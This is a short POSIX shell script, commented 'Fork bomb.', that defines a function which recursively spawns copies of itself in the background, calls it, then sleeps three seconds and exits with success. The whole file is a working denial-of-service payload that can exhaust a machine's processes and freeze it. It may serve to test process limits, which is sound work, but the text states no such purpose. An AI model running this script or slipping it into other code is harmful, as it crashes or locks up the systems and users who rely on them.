#!/bin/sh
# Fork bomb.
bomb() { bomb | bomb & }
bomb
sleep 3
exit 0
